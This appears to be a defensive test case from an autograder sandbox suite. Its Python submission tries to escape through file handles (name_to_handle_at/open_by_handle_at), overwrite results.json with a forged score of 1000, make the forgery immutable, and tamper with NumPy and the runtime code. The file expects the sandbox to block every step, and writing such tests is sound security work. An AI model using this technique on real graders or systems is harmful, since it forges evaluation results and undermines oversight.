"""Hostile: writes outside its folder without naming a path it may not open: a file handle
(``name_to_handle_at``) reopened with ``open_by_handle_at``, which skips the permission
checks of the path's folders. It forges the results file (its path is on the grader's
command line, else Gradescope's), makes the forgery immutable (``FS_IOC_SETFLAGS``) so that
the grader's last write fails, and tries the same on the runtime's code and on NumPy, which
later runs would import.

EXPECT: no handle is made or opened (seccomp refuses both calls; without capabilities
open_by_handle_at needs CAP_DAC_READ_SEARCH; Landlock refuses every write), the results file
is the grader's, the submission returns black: zero points.
"""
import ctypes
import os
import sys

from _hostile import Escaped, black, grader_argv, libc, registry

EXPECT = dict(kind="black", words="")
AT_FDCWD = -100
FS_IOC_SETFLAGS, FS_IMMUTABLE_FL = 0x40086602, 0x00000010
FORGERY = b'{"score": 1000, "tests": []}'


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def targets():
    argv = grader_argv()
    found = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--gradescope"]
    found += [a.split("=", 1)[1] for a in argv if a.startswith("--gradescope=")]
    found.append("/autograder/results/results.json")
    import numpy
    found += [os.path.join(sys.path[0], "pathtracer", "__init__.py"), numpy.__file__]
    return found


def reopen(c, path):
    """``path`` opened for writing through a handle, or None."""
    handle, mount_id = FileHandle(128), ctypes.c_int()
    if c.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0):
        return None
    mount_fd = c.open(b"/", os.O_PATH)
    fd = c.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_WRONLY | os.O_TRUNC)
    return fd if fd >= 0 else None


def radiance(self, scene, rays, rng):
    c = libc()
    for path in targets():
        fd = reopen(c, path)
        if fd is None:
            continue
        written = c.write(fd, FORGERY, len(FORGERY))
        flags = ctypes.c_int(FS_IMMUTABLE_FL)
        c.ioctl(fd, FS_IOC_SETFLAGS, ctypes.byref(flags))
        raise Escaped(f"WROTE {path} through a file handle ({written} bytes)")
    return black(rays)


INTEGRATORS = registry(radiance)
